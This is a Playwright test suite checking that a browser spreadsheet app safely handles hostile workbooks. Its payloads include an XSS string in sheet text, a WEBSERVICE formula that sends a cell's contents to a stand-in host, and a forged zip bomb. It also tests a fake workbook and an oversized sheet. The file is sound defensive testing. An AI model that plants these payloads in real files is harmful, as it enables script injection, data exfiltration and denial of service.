/** Workbooks made to do harm: nothing runs, nothing hangs, the person is told. */
import zlib from "node:zlib";
import type { Browser, Page } from "playwright-core";
import { readEntries, unpack, writeEntries, pack, crc32 } from "../../src/host/engine/zip.js";
import {
  cellWith,
  changing,
  openFile,
  openPage,
  savedBytes,
  startBrowser,
  type OpenPage,
} from "./open-page.js";

let browser: Browser;
let opened: OpenPage;
let page: Page;

beforeAll(async () => {
  browser = await startBrowser();
});
afterAll(() => browser?.close());
beforeEach(async () => {
  opened = await openPage(browser);
  ({ page } = opened);
});
afterEach(async () => {
  expect(opened.errors).toEqual([]);
  expect(opened.outside).toEqual([]);
  expect(
    await page.evaluate(() => (window as unknown as { harmed?: boolean }).harmed)
  ).toBeUndefined();
  await opened.context.close();
});

/** The demo house with parts changed as text. */
async function changedHouse(change: (path: string, text: string) => string): Promise<Uint8Array> {
  const entries = readEntries(await savedBytes(page));
  return writeEntries(
    entries.map((entry) => {
      if (!/\.(?:xml|rels)$/.test(entry.path)) return entry;
      const text = new TextDecoder().decode(unpack(entry));
      const now = change(entry.path, text);
      return now === text ? entry : pack(entry.path, new TextEncoder().encode(now));
    })
  );
}

async function notice(): Promise<string> {
  await page.waitForSelector("#notice:not([hidden])");
  return (await page.locator("#notice-text").textContent()) ?? "";
}

/** The page still answers quickly. */
async function isAlive(): Promise<void> {
  const answer = await Promise.race([
    page.evaluate(() => 1 + 1),
    new Promise((resolve) => setTimeout(() => resolve("hangs"), 10_000)),
  ]);
  expect(answer).toBe(2);
}

const SCRIPT = `&lt;img src=x onerror="window.harmed=true"&gt;&lt;script&gt;window.harmed=true&lt;/script&gt;`;

test("markup in wall names is shown as text", async () => {
  const bytes = await changedHouse((path, text) =>
    /worksheets\/sheet|sharedStrings/.test(path)
      ? text.replace(
          /(<t[^>]*>)South wing(<\/t>)/g,
          (_, a: string, b: string) => `${a}${SCRIPT.replace(/"/g, "&quot;")}${b}`
        )
      : text
  );
  await changing(page, () => openFile(page, bytes));
  const names = await page.locator("#panel-wall select option").allTextContents();
  expect(names.some((name) => name.includes("<script>"))).toBe(true);
  for (const tab of ["cuts", "order", "checks", "wall"]) {
    await page.click(`#tab-${tab}`);
    await page.waitForTimeout(200);
  }
  expect(await page.locator("#pane img, #pane script, #pane iframe").count()).toBe(0);
});

test("formulas in names and in sheet names do nothing but show", async () => {
  const bytes = await changedHouse((path, text) =>
    path === "xl/workbook.xml"
      ? text
          .replace(
            /<\/sheets>/,
            `</sheets><definedNames><definedName name="evil">WEBSERVICE("http://example.test/?"&amp;Walls!$A$1)</definedName><definedName name="loop">loop</definedName></definedNames>`
          )
          .replace(
            /(<definedNames>[\s\S]*?<\/definedNames>)\s*<definedNames>[\s\S]*?<\/definedNames>/,
            "$1"
          )
      : text
  );
  await changing(page, () => openFile(page, bytes));
  await cellWith(page, "Walls", "A", "South wing");
  await isAlive();
});

test("a zip bomb is refused with its reason", async () => {
  const body = zlib.deflateRawSync(Buffer.alloc(150 * 1024 * 1024), { level: 9 });
  const bomb = (path: string): Parameters<typeof writeEntries>[0][number] => ({
    path,
    method: 8,
    crc: crc32(new Uint8Array(0)),
    size: 150 * 1024 * 1024,
    compressed: new Uint8Array(body),
  });
  await openFile(page, writeEntries([bomb("xl/workbook.xml"), bomb("xl/styles.xml")]));
  expect(await notice()).toMatch(/not opened.*200 MB/);
  await isAlive();
});

test("a file that only looks like a workbook is refused with its reason", async () => {
  await openFile(
    page,
    new TextEncoder().encode("<html>not a workbook at all, by any means</html>")
  );
  expect(await notice()).toMatch(/not opened/);
  await cellWith(page, "Walls", "A", "South wing");
});

test("fifty thousand walls neither hang the page nor keep it from opening another file", async () => {
  const good = await savedBytes(page);
  const rows = Array.from(
    { length: 50_000 },
    (_, index) =>
      `<row r="${index + 2}"><c r="A${index + 2}" t="inlineStr"><is><t>W${index}</t></is></c><c r="B${index + 2}"><v>240</v></c><c r="C${index + 2}"><v>96</v></c></row>`
  ).join("");
  const bytes = await changedHouse((path, text) => {
    if (!/worksheets\/sheet\d+\.xml$/.test(path) || !text.includes("South wing")) return text;
    const head = /<row r="1"[\s\S]*?<\/row>/.exec(text)?.[0] ?? "";
    return text.replace(/<sheetData>[\s\S]*<\/sheetData>/, `<sheetData>${head}${rows}</sheetData>`);
  });
  await openFile(page, bytes, "many.xlsx");
  await page.waitForFunction(() => document.title.includes("many"), undefined, { timeout: 60_000 });
  await isAlive();
  await openFile(page, good, "good.xlsx");
  await page.waitForFunction(() => document.title.includes("good"), undefined, { timeout: 60_000 });
  await isAlive();
});
